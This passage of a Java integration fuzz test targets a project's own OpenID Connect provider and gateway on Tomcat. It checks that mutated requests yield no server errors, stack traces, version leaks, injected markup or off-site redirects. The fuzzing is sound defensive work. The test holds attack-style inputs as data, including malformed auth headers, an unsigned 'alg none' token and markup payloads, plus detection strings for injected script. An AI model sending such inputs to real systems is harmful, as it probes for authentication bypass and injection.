                "Basic " + b64("%7F:fz"), "Basic " + b64("%zz:%"), "Basic " + b64("%C0%80:%FF"),
                "Basic " + Base64.getEncoder().encodeToString(new byte[] {(byte) 0xff, (byte) 0xfe, ':',
                    (byte) 0xc0, (byte) 0x80}),
                "Basic " + b64(MARKUP + ":" + MARKUP), "Basic " + b64("u".repeat(2000) + ":" + "p".repeat(2000)),
                "Basic =====", "Basic " + b64("fz-client:fz") + "=", "basic " + b64("fz-client:fz"),
                "Basic " + b64("fz-client:fz") + " extra", "BASIC " + b64("fz-client:fz"),
                "Bearer", "Bearer ", "Bearer junk", "Bearer a.b.c", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.",
                "Bearer " + "t".repeat(4000), "Bearer " + MARKUP, "Bearer \u00ff\u00fe", "Bearer a b c",
                "Negotiate fz", "Digest username=\"fz\"", "DPoP fz", ",,,", "Basic%20" + b64("echo:x"));
    }

    // --- the run -----------------------------------------------------------------------------------------------

    /** The requests, in order: every mutation on every endpoint (its contexts taking turns), then stacked ones. */
    static List<Sent> plan() {
        Random random = new Random(SEED);
        List<Endpoint> table = endpoints();
        List<Mutation> catalogue = mutations();
        List<Sent> plan = new ArrayList<>();
        for (Endpoint endpoint : table) {
            List<Context> contexts = new ArrayList<>(endpoint.contexts());
            for (int m = 0; m < catalogue.size(); m += endpoint.stride()) {
                // each mutation once per endpoint, the contexts taking turns (the base request in each of them)
                List<Context> these = m == 0 ? contexts : List.of(contexts.get(m % contexts.size()));
                for (Context context : these) {
                    plan.add(render(plan.size(), draft(endpoint, context, random, List.of(catalogue.get(m)))));
                }
            }
        }
        for (int i = 0; i < STACKED_REQUESTS; i++) {
            Endpoint endpoint = table.get(random.nextInt(table.size()));
            List<Context> contexts = new ArrayList<>(endpoint.contexts());
            Context context = contexts.get(random.nextInt(contexts.size()));
            List<Mutation> stack = new ArrayList<>();
            for (int n = 2 + random.nextInt(2); n > 0; n--) {
                stack.add(catalogue.get(1 + random.nextInt(catalogue.size() - 1)));
            }
            plan.add(render(plan.size(), draft(endpoint, context, random, stack)));
        }
        return plan;
    }

    /** The connector-level mutations on endpoints drawn from the seed, and the sweep's requests that grew too big. */
    static List<Sent> connectorLevelPlan() {
        Random random = new Random(SEED + 1);
        List<Sent> plan = new ArrayList<>(plan().stream().filter(sent -> sent.group() == Group.CONNECTOR_LEVEL)
                .toList());
        List<Endpoint> table = endpoints();
        for (Mutation mutation : connectorLevelMutations()) {
            for (int i = 0; i < 4; i++) {
                Endpoint endpoint = table.get(random.nextInt(table.size()));
                Draft draft = draft(endpoint, Context.ANONYMOUS, random, List.of(mutation));
                draft.group = Group.CONNECTOR_LEVEL;
                plan.add(render(1_000_000 + plan.size(), draft));
            }
        }
        return plan;
    }

    @Test
    void everyEndpointWhenFuzzedThenNoServerErrorTraceVersionMarkupOrForeignRedirect() throws Exception {
        List<Sent> plan = plan().stream().filter(sent -> sent.group() == Group.APPLICATION).toList();
        assertThat(plan).hasSizeGreaterThanOrEqualTo(MIN_APPLICATION_REQUESTS);
        Outcome outcome = run(plan);
        System.out.println(outcome.summary("FuzzIT (application)", plan.size()));
        outcome.write("fuzz-application.txt");
        assertThat(outcome.answered.get()).as("requests answered").isEqualTo(plan.size());
        assertThat(outcome.failures).as(outcome.report()).isEmpty();
        assertContextsHeld();
    }

    /**
     * The requests ran in the contexts they claim: afterwards the signed-in browser is still signed in at both WARs
     * and the pending sign-in still shows its form (no mutation ended them halfway).
     */
    private static void assertContextsHeld() throws IOException {
        Session signedIn = sessions.get(Context.SIGNED_IN);
        Session pending = sessions.get(Context.PENDING_SIGN_IN);
        URI gatewayUri = URI.create(gateway);
        URI provider = URI.create(issuer);
        try (RawHttp toGateway = new RawHttp(gatewayUri.getHost(), gatewayUri.getPort());
                RawHttp toProvider = new RawHttp(provider.getHost(), provider.getPort())) {
            RawHttp.Response home = toGateway.exchange("GET", "GET / HTTP/1.1\r\nHost: " + gatewayUri.getAuthority()
                    + "\r\nCookie: " + cookieHeader(signedIn, "/") + "\r\n\r\n", new byte[0]);
            assertThat(home.status()).as("the signed-in context at the gateway afterwards").isEqualTo(200);
            String account = identityContextPath + "/account.xhtml";
            RawHttp.Response page = toProvider.exchange("GET", "GET " + account + " HTTP/1.1\r\nHost: "
                    + provider.getAuthority() + "\r\nCookie: " + cookieHeader(signedIn, account) + "\r\n\r\n",
                    new byte[0]);
            assertThat(page.body()).as("the signed-in context at the provider afterwards")
                    .contains(DevServer.DEMO_USER).contains("id=\"sessions\"");
            String login = identityContextPath + "/login.xhtml?request=" + pending.requestId();
            RawHttp.Response form = toProvider.exchange("GET", "GET " + login + " HTTP/1.1\r\nHost: "
                    + provider.getAuthority() + "\r\nCookie: " + cookieHeader(pending, login) + "\r\n\r\n",
                    new byte[0]);
            assertThat(form.body()).as("the pending sign-in afterwards").contains("login:username");
        }
    }

    /**
     * The inputs Tomcat refuses before any WAR runs. Its {@code ErrorReportValve} renders those answers; with its
     * default settings it prints a stack trace and Tomcat's version, so this group holds only once the valve is set up
     * without them ({@code showReport="false" showServerInfo="false"}, issue 9 item 7), in the launcher and in
     * {@code server-config/tomcat/}. Asserted: what that configuration guarantees (below 500, no trace, no version).
     */
    @Test
    void connectorLevelRefusalsWhenFuzzedThenNoServerErrorTraceOrVersion() throws Exception {
        List<Sent> plan = connectorLevelPlan();
        Outcome outcome = run(plan);
        System.out.println(outcome.summary("FuzzIT (connector level)", plan.size()));
        outcome.write("fuzz-connector-level.txt");
        assertThat(outcome.answered.get()).as("requests answered").isEqualTo(plan.size());
        assertThat(outcome.failures).as(outcome.report()).isEmpty();
    }

    /** The answers by status, and the offending requests with what is wrong with each answer. */
    static final class Outcome {
        final Map<Integer, AtomicInteger> statuses = Collections.synchronizedMap(new TreeMap<>());
        final ConcurrentLinkedQueue<String> failures = new ConcurrentLinkedQueue<>();
        final AtomicInteger answered = new AtomicInteger();
        final ConcurrentLinkedQueue<String> slow = new ConcurrentLinkedQueue<>();
        long millis;

        String summary(String what, int planned) {
            return what + ": " + planned + " requests (seed " + Long.toHexString(SEED) + "), " + answered.get()
                    + " answered in " + millis + " ms, " + failures.size() + " failing, " + slow.size()
                    + " slower than " + SLOW_MILLIS + " ms; answers by status " + new TreeMap<>(statuses);
        }

        /** Every offending request, in order, into {@code target/} for reading after a failed run. */
        void write(String file) throws IOException {
            java.nio.file.Path path = java.nio.file.Paths.get("target", file);
            java.nio.file.Files.write(path, failures.stream().sorted(Comparator.comparingInt(FuzzIT::indexOf))
                    .toList(), StandardCharsets.UTF_8);
            java.nio.file.Files.write(java.nio.file.Paths.get("target", "slow-" + file), slow, StandardCharsets.UTF_8);
        }

        String report() {
            List<String> first = failures.stream().sorted(Comparator.comparingInt(FuzzIT::indexOf))
                    .limit(REPORTED_FAILURES).toList();
            return failures.size() + " offending answers; the first " + first.size() + ":\n" + String.join("\n",
                    first);
        }
    }

    private static int indexOf(String failure) {
        return Integer.parseInt(failure.substring(1, failure.indexOf(' ')));
    }

    private static Outcome run(List<Sent> plan) throws Exception {
        Outcome outcome = new Outcome();
        AtomicInteger next = new AtomicInteger();
        long started = System.nanoTime();
        ExecutorService workers = Executors.newFixedThreadPool(THREADS);
        try {
            List<Future<?>> running = new ArrayList<>();
            for (int t = 0; t < THREADS; t++) {
                running.add(workers.submit(() -> {
                    URI provider = URI.create(issuer);
                    URI gatewayUri = URI.create(gateway);
                    try (RawHttp toProvider = new RawHttp(provider.getHost(), provider.getPort());
                            RawHttp toGateway = new RawHttp(gatewayUri.getHost(), gatewayUri.getPort())) {
                        for (int i = next.getAndIncrement(); i < plan.size(); i = next.getAndIncrement()) {
                            Sent sent = plan.get(i);
                            RawHttp connection = sent.origin() == Origin.PROVIDER ? toProvider : toGateway;
                            try {
                                long before = System.nanoTime();
                                RawHttp.Response response = connection.exchange(sent.method(), sent.head(), sent.body());
                                long took = (System.nanoTime() - before) / 1_000_000;
                                if (took > SLOW_MILLIS) {
                                    outcome.slow.add(took + " ms: " + sent.describe());
                                }
                                outcome.answered.incrementAndGet();
                                outcome.statuses.computeIfAbsent(response.status(), s -> new AtomicInteger())
                                        .incrementAndGet();
                                List<String> problems = problems(sent, response);
                                if (!problems.isEmpty()) {
                                    outcome.failures.add(sent.describe() + "\n      -> " + response.status() + ": "
                                            + String.join("; ", problems) + "\n      body: "
                                            + printable(response.body(), 400));
                                }
                            } catch (IOException | RuntimeException e) {
                                connection.close();
                                outcome.failures.add(sent.describe() + "\n      -> no answer: " + e);
                            }
                        }
                    }
                    return null;
                }));
            }
            for (Future<?> worker : running) {
                worker.get();
            }
        } finally {
            workers.shutdownNow();
        }
        outcome.millis = (System.nanoTime() - started) / 1_000_000;
        return outcome;
    }

    /** What is wrong with this answer to this request; empty when nothing is. */
    static List<String> problems(Sent sent, RawHttp.Response response) {
        List<String> problems = new ArrayList<>();
        if (response.status() >= 500) {
            problems.add("server error " + response.status());
        }
        String body = response.body();
        if (STACK_TRACE.matcher(body).find()) {
            problems.add("stack trace or exception name in the body: '" + around(body, STACK_TRACE) + "'");
        }
        if (PRODUCT.matcher(body).find()) {
            problems.add("server or library name in the body: '" + around(body, PRODUCT) + "'");
        }
        for (String[] header : response.headers()) {
            String name = header[0].toLowerCase(Locale.ROOT);
            if ((name.equals("server") || name.equals("x-powered-by")) || PRODUCT.matcher(header[1]).find()
                    || STACK_TRACE.matcher(header[1]).find()) {
                problems.add("header gives the server away: " + header[0] + ": " + header[1]);
            }
            if (name.startsWith("x-fz")) {
                problems.add("injected response header " + header[0]);
            }
        }
        if (sent.group() == Group.CONNECTOR_LEVEL) {
            return problems;
        }
        String type = response.header("Content-Type").orElse("").toLowerCase(Locale.ROOT);
        if (type.startsWith("application/json")) {
            try {
                JsonNode ignored = JSON.readTree(body);
            } catch (IOException e) {
                problems.add("JSON body does not parse");
            }
        } else {
            String lower = body.toLowerCase(Locale.ROOT);
            for (String injected : List.of("<script", "<img src=x", "<x-fz>", "<fz>")) {
                if (lower.contains(injected)) {
                    problems.add("markup in the body: " + injected);
                }
            }
        }
        response.header("Location").ifPresent(location -> {
            if (location.chars().anyMatch(c -> c < 0x21 || c == 0x7f || c == '<' || c == '>' || c == '"')) {
                problems.add("Location with a control character, space or markup: " + printable(location, 200));
                return;
            }
            URI resolved;
            try {
                resolved = URI.create((sent.origin() == Origin.PROVIDER ? issuer : gateway)).resolve(location);
            } catch (IllegalArgumentException e) {
                problems.add("Location is not a URI: " + printable(location, 200));
                return;
            }
            if (!ownOrigins.contains(origin(resolved))) {
                problems.add("redirect off the system: " + printable(location, 200));
            }
        });
        return problems;
    }

    // --- building the requests ---------------------------------------------------------------------------------

    private static Draft draft(Endpoint endpoint, Context context, Random random, List<Mutation> mutations) {
        String method = endpoint.methods().get(random.nextInt(endpoint.methods().size()));
        Draft draft = new Draft(endpoint, sessions.get(context), method);
        for (Mutation mutation : mutations) {
            mutation.apply().accept(draft, random);
            draft.mutations.add(mutation.label());
        }
        return draft;
    }

    private static Sent render(int index, Draft d) {
        Origin origin = d.endpoint.origin();
        URI base = URI.create(origin == Origin.PROVIDER ? issuer : gateway);
        String contextPath = origin == Origin.PROVIDER ? identityContextPath : "";
        String encodedParams = join(d.params);
        List<String> query = new ArrayList<>();
        if (!d.queryParams.isEmpty()) {
            query.add(join(d.queryParams));
        }
        boolean paramsInBody = d.body() && d.rawBody == null;
        if (!encodedParams.isEmpty() && (!paramsInBody || d.paramsInQueryAndBody)) {
            query.add(encodedParams);
        }
        String target = contextPath + d.path + (query.isEmpty() ? "" : (d.path.contains("?") ? "&" : "?")
                + String.join("&", query));
        byte[] body = d.rawBody != null ? d.rawBody
                : paramsInBody ? encodedParams.getBytes(StandardCharsets.ISO_8859_1) : new byte[0];
        StringBuilder head = new StringBuilder(d.method).append(' ').append(target).append(" HTTP/1.1\r\n");
        boolean hostSet = d.headers.stream().anyMatch(h -> h[0].equalsIgnoreCase("Host"));
        if (!hostSet) {
            head.append("Host: ").append(base.getAuthority()).append("\r\n");
        }
        String cookies = cookieHeader(d.session, contextPath + d.path);
        boolean cookieSet = d.headers.stream().anyMatch(h -> h[0].equalsIgnoreCase("Cookie"));
        if (!cookies.isEmpty() && !cookieSet) {
            head.append("Cookie: ").append(cookies).append("\r\n");
        }
        for (String[] header : d.headers) {
            if (header[1] != null) {
                head.append(header[0]).append(": ").append(header[1]).append("\r\n");
            }
        }
        String contentType = d.contentType != null ? d.contentType : body.length > 0 || d.body() ? FORM : null;
        if (contentType != null) {
            head.append("Content-Type: ").append(contentType).append("\r\n");
        }
        boolean lengthSet = d.headers.stream().anyMatch(h -> h[0].equalsIgnoreCase("Content-Length")
                || h[0].equalsIgnoreCase("Transfer-Encoding"));
        if (!lengthSet && (body.length > 0 || d.body())) {
            head.append("Content-Length: ").append(body.length).append("\r\n");
        }
        head.append("\r\n");
        // Tomcat's maxHttpHeaderSize (8 KB) bounds the request line and headers: beyond it the connector answers
        Group group = head.length() > TOMCAT_MAX_HEADER_SIZE - 256 ? Group.CONNECTOR_LEVEL : d.group;
        return new Sent(index, group, origin, d.session.context(), d.endpoint.name(), String.join(" + ",
                d.mutations), d.method, target, head.toString(), lengthSet ? new byte[0] : body);
    }

    private static String join(List<String[]> params) {
        return params.stream().map(p -> p[1] == null ? p[0] : p[0] + "=" + p[1]).collect(Collectors.joining("&"));
    }

    private static String cookieHeader(Session session, String path) {
        return session.cookies().stream().filter(c -> path.startsWith(c.getPath() == null ? "/" : c.getPath()))
                .map(c -> c.getName() + "=" + c.getValue()).collect(Collectors.joining("; "));
    }

    private static void duplicate(Draft d, Random r, Function<String, String> value) {
        List<String[]> list = d.params.isEmpty() ? d.queryParams : d.params;
        if (list.isEmpty()) {
            d.params.add(new String[] {"fz", "1"});
            d.params.add(new String[] {"fz", value.apply("1")});
            return;
        }
        String[] param = list.get(r.nextInt(list.size()));
        list.add(new String[] {param[0], value.apply(param[1])});
    }

    private static void rename(Draft d, Random r, Function<String, String> update) {
        if (d.params.isEmpty()) {
            d.params.add(new String[] {update.apply("fz"), "1"});
            return;
        }
        String[] param = d.params.get(r.nextInt(d.params.size()));
        param[0] = update.apply(param[0]);
    }

    private static void body(Draft d, String type, String content) {
        d.method = d.body() ? d.method : "POST";
        d.contentType = type;
        d.rawBody = content.getBytes(StandardCharsets.UTF_8);
    }

    /** {@code value} with {@code inserted} in its middle (so both ends still look like the real value). */
    private static String insert(String value, String inserted) {
        int at = value.length() / 2;
        while (at > 0 && at < value.length() && (value.charAt(at - 1) == '%' || (at > 1
                && value.charAt(at - 2) == '%'))) {
            at--; // never inside an escape
        }
        return value.substring(0, at) + inserted + value.substring(at);
    }

    // --- the contexts ------------------------------------------------------------------------------------------

    /** A browser in the middle of signing in: the gateway's pending state and the provider's pending request. */
    private static Session pendingSignIn() {
        Browser browser = new Browser();
        URI authorize = Browser.location(browser.get(URI.create(gateway + "/login")));
        HttpResponse<String> toLoginPage = browser.get(authorize);
        assertThat(toLoginPage.statusCode()).as("authorize -> login page").isEqualTo(302);
        URI loginPage = Browser.location(toLoginPage);
        HttpResponse<String> page = browser.get(loginPage);
        assertThat(page.statusCode()).isEqualTo(200);
        return new Session(Context.PENDING_SIGN_IN, cookies(browser), Browser.query(loginPage).get("request"),
                Browser.query(authorize).get("state"), "", "fz-not-an-access-token", "fz.not.an-id-token",
                sharedHiddenFields(page.body(), "login"));
    }

    /** Signed in at the provider and the gateway, with an access and an ID token of its own sign-on session. */
    private static Session signedIn() throws IOException {
        Browser browser = new Browser();
        URI authorize = Browser.location(browser.get(URI.create(gateway + "/login")));
        browser.get(Browser.location(SingleSignOnIT.signInAtProvider(browser, authorize)));
        assertThat(browser.get(URI.create(gateway + "/")).statusCode()).isEqualTo(200);
        HttpResponse<String> code = browser.get(URI.create(issuer + "/authorize?" + Browser.formEncode(map(
                "response_type", "code", "client_id", DevServer.CLIENT_ID, "redirect_uri", gateway + "/callback",
                "scope", "openid profile", "state", "fz-state", "nonce", "fz-nonce", "code_challenge",
                challenge(VERIFIER), "code_challenge_method", "S256"))));
        assertThat(code.statusCode()).isEqualTo(302);
        HttpResponse<String> tokens = new Browser().postForm(URI.create(issuer + "/token"), map("grant_type",
                "authorization_code", "code", Browser.query(Browser.location(code)).get("code"), "redirect_uri",
                gateway + "/callback", "code_verifier", VERIFIER), "Authorization", clientAuth());
        assertThat(tokens.statusCode()).as(tokens.body()).isEqualTo(200);
        JsonNode answer = JSON.readTree(tokens.body());
        HttpResponse<String> enrolPage = browser.get(URI.create(issuer + "/enrol.xhtml"));
        Element secret = Jsoup.parse(enrolPage.body()).selectFirst("input[name=enrol:secret]");
        Map<String, String> shared = new LinkedHashMap<>(sharedHiddenFields(enrolPage.body(), "enrol"));
        shared.putAll(sharedHiddenFields(browser.get(URI.create(issuer + "/account.xhtml")).body(), "sessions"));
        return new Session(Context.SIGNED_IN, cookies(browser), "fz-unknown-request", "fz-state",
                secret == null ? "" : secret.attr("value"), answer.get("access_token").asText(),
                answer.get("id_token").asText(), shared);
    }

    /**
     * The hidden fields of form {@code formId} that are not its own ({@code formId:...}) nor Faces' view state: what
     * the page adds to every form (a form token, when the pages have one), so the posts here carry it as a browser's.
     */
    private static Map<String, String> sharedHiddenFields(String html, String formId) {
        Map<String, String> fields = new LinkedHashMap<>();
        Element form = Jsoup.parse(html).getElementById(formId);
        if (form != null) {
            for (Element input : form.select("input[type=hidden]")) {
                String name = input.attr("name");
                if (!name.equals(formId) && !name.startsWith(formId + ":") && !name.startsWith("jakarta.faces.")) {
                    fields.put(name, input.attr("value"));
                }
            }
        }
        return fields;
    }

    private static List<HttpCookie> cookies(Browser browser) {
        return List.copyOf(browser.cookies().getCookieStore().getCookies());
    }

    // --- small helpers -----------------------------------------------------------------------------------------

    private static Endpoint provider(String name, String path, String method) {
        return provider(name, path, s -> map(), method);
    }

    private static Endpoint provider(String name, String path, Function<Session, Map<String, String>> params,
            String... methods) {
        return new Endpoint(name, Origin.PROVIDER, path, List.of(methods), params, List.of(), ALL, false, null, 1);
    }

    private static Endpoint gateway(String name, String path, Function<Session, Map<String, String>> params,
            String... methods) {
        return new Endpoint(name, Origin.GATEWAY, path, List.of(methods), params, List.of(), ALL, false, null, 1);
    }

    private static Map<String, String> map(String... namesAndValues) {
        Map<String, String> map = new LinkedHashMap<>();
        for (int i = 0; i < namesAndValues.length; i += 2) {
            map.put(namesAndValues[i], namesAndValues[i + 1]);
        }
        return map;
    }

    private static String clientAuth() {
        return "Basic " + b64(DevServer.CLIENT_ID + ":" + system.clientSecret());
    }

    private static String admin() {
        return "Bearer " + ADMIN_TOKEN;
    }

    private static String b64(String value) {
        return Base64.getEncoder().encodeToString(value.getBytes(StandardCharsets.UTF_8));
    }

    private static String challenge(String verifier) {
        try {
            return Base64.getUrlEncoder().withoutPadding().encodeToString(MessageDigest.getInstance("SHA-256")
                    .digest(verifier.getBytes(StandardCharsets.US_ASCII)));
        } catch (java.security.NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String enc(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    private static String origin(URI uri) {
        return uri.getScheme() + "://" + uri.getHost() + ":" + uri.getPort();
    }

    private static String abbreviate(String value) {
        return printable(value, 40);
    }

    /** Control characters and bytes above 0x7E shown as \xNN, cut at {@code max} characters. */
    static String printable(String value, int max) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < value.length() && out.length() < max; i++) {
            char c = value.charAt(i);
            if (c < 0x20 || c == 0x7f || (c > 0x7e && c < 0xa0)) {
                out.append(String.format("\\x%02X", (int) c));
            } else {
                out.append(c);
            }
        }
        return value.length() > max ? out + "… (" + value.length() + " chars)" : out.toString();
    }

    private static String around(String body, Pattern pattern) {
        java.util.regex.Matcher m = pattern.matcher(body);
        if (!m.find()) {
            return "";
        }
        return printable(body.substring(Math.max(0, m.start() - 60), Math.min(body.length(), m.end() + 60)), 200);
    }
}
